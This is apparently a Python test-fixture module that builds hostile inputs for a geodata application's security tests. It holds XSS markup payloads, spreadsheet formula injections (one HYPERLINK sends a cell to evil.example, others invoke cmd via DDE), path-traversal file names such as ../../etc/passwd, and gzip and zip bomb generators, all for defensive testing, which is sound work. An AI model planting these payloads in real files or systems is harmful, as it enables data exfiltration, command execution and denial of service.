"""The hostile-input corpus: names with markup and formulas, bombs, traversal names, corrupt stores.

Every fixture is made by the tests themselves (nothing binary is committed), small, and fast to
build. Names are what a hostile or careless user puts in a village list or a boundaries file; each
markup payload, if it ran, would bump ``window.__xss`` or open a dialog, which the browser tests
count.
"""

from __future__ import annotations

import gzip
import io
import zipfile
from pathlib import Path

import geopandas as gpd
import pandas as pd

#: Markup that runs script when a name is inserted as HTML, in every context a name lands in.
MARKUP_NAMES = [
    "<script>window.__xss=(window.__xss||0)+1;alert(1)</script>",
    '"><img src=x onerror="window.__xss=(window.__xss||0)+1;alert(2)">',
    '\'><svg onload="window.__xss=(window.__xss||0)+1">',
    "</script><script>window.__xss=(window.__xss||0)+1</script>",
    "</title><script>window.__xss=(window.__xss||0)+1</script>",
]
#: Text a spreadsheet would run as a formula or a command.
FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
]
#: Upload file names that try to leave the upload folder or break the file system.
TRAVERSAL_NAMES = [
    "..",
    "a/../../..",
    "../../etc/passwd",
    "a\x00b.csv",
    "x" * 300 + ".csv",
    ".",
    "/",
    "\\..\\..\\win.ini",
]


def hostile_names(count: int) -> list[str]:
    """Return ``count`` hostile names, alternating formulas and markup."""
    pool = [name for pair in zip(FORMULA_NAMES, MARKUP_NAMES, strict=False) for name in pair]
    pool += FORMULA_NAMES[len(MARKUP_NAMES) :]
    return [pool[i % len(pool)] for i in range(count)]


def rename_hostile(frame: pd.DataFrame, columns: list[str]) -> pd.DataFrame:
    """Return a copy of ``frame`` with hostile names in ``columns`` (one name per distinct value)."""
    out = frame.copy()
    for column in columns:
        values = out[column].astype(str)
        distinct = list(dict.fromkeys(values))
        mapping = dict(zip(distinct, hostile_names(len(distinct)), strict=True))
        out[column] = values.map(mapping)
    return out


def hostile_communes(communes: gpd.GeoDataFrame) -> gpd.GeoDataFrame:
    """The bundled communes with hostile commune and district names (codes and shapes unchanged)."""
    return rename_hostile(communes, ["commune", "district"])


def gzip_bomb(path: Path, *, decompressed_mb: int = 200, header: str = "lat,lon,rsrp,operator,time\n") -> Path:
    """Write a small gzip CSV that expands to ``decompressed_mb`` MB of identical rows."""
    row = b"12.0,107.7,-100,viettel,2024-03-01T08:00:00Z\n"
    block = row * (1 << 20 // len(row) + 1)
    with gzip.open(path, "wb", compresslevel=9) as out:
        out.write(header.encode())
        written = 0
        while written < decompressed_mb << 20:
            out.write(block)
            written += len(block)
    return path


def zip_bomb(path: Path, *, decompressed_mb: int = 200, member: str = "tiles.csv") -> Path:
    """Write a small zip whose one member expands to ``decompressed_mb`` MB."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open(member, "w", force_zip64=True) as out,
    ):
        out.write(b"quadkey,avg_d_kbps\n")
        chunk = b"0" * (1 << 20)
        for _ in range(decompressed_mb):
            out.write(chunk)
    path.write_bytes(buffer.getvalue())
    return path


def corrupt_footer(path: Path) -> None:
    """Overwrite a Parquet file's footer (its last bytes) with garbage."""
    data = bytearray(path.read_bytes())
    data[-12:] = b"\xde\xad\xbe\xef" * 3
    path.write_bytes(bytes(data))


def corrupt_middle(path: Path) -> None:
    """Overwrite the middle third of a Parquet file with garbage, keeping its footer."""
    data = bytearray(path.read_bytes())
    third = len(data) // 3
    data[third : 2 * third] = bytes((i * 37) % 251 for i in range(third))
    path.write_bytes(bytes(data))


def folder_digest(folder: Path) -> dict[str, bytes]:
    """Every file under ``folder`` with its bytes (to check a folder is byte-identical)."""
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}
